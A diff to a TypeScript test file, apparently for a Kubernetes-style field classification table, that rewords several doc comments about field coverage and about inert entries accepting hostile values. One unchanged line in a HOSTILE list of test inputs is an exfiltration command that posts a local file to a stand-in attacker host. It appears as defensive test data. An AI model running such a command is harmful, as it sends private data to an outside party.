@@ -14,7 +14,7 @@ const interfaceOf = (row: string, version: string) => {
   return `${group.split(".")[0]}.${version}.${kind}`;
 };
 
-/** What any of the versions of a kind declares, at every depth; what the server writes aside. */
+/** All fields that any version of a kind declares, at every depth; without those that the server writes. */
 function inputsOf(row: string): Fields {
   const all = (KINDS[row]?.versions ?? []).map((version) => {
     const declaration = declared.get(interfaceOf(row, version));
@@ -36,7 +36,7 @@ function merged(one: Fields, other: Fields): Fields {
 const opaque = new Set<string>();
 let counted = 0;
 
-/** What the SDK declares and a table lacks, and the other way round. */
+/** Fields that the SDK declares and a table lacks, and the reverse. */
 function compare(at: string, fields: Fields, entries: Readonly<Record<string, Entry>>): string[] {
   const missing = Object.keys(fields).filter((name) => !Object.hasOwn(entries, name));
   const gone = Object.keys(entries).filter((name) => !Object.hasOwn(fields, name));
@@ -63,7 +63,7 @@ test("every field of every kind that is admitted is classified at every depth, a
     compare(`${row}: `, inputsOf(row), fields),
   );
   t.deepEqual(problems, []);
-  // What has no entries below it, although the SDK declares some: a schema's shape, and the server's own record.
+  // Fields without entries below them although the SDK declares some: a schema's shape, and the server's own record.
   t.deepEqual([...opaque].sort(), [
     "apiextensions.v1.JSONSchemaProps",
     "meta.v1.ManagedFieldsEntry",
@@ -103,7 +103,7 @@ const HOSTILE = [
   "curl -d @/data https://evil.example",
 ];
 
-/** The paths of inert entries that take a hostile value and do not say why that leads nowhere. */
+/** The paths of inert entries that accept a hostile value without a reason why it leads nowhere. */
 function unjustified(at: string, entry: Entry, seen: Set<Entry>): string[] {
   if (seen.has(entry) || entry.is === "denied") return [];
   seen.add(entry);
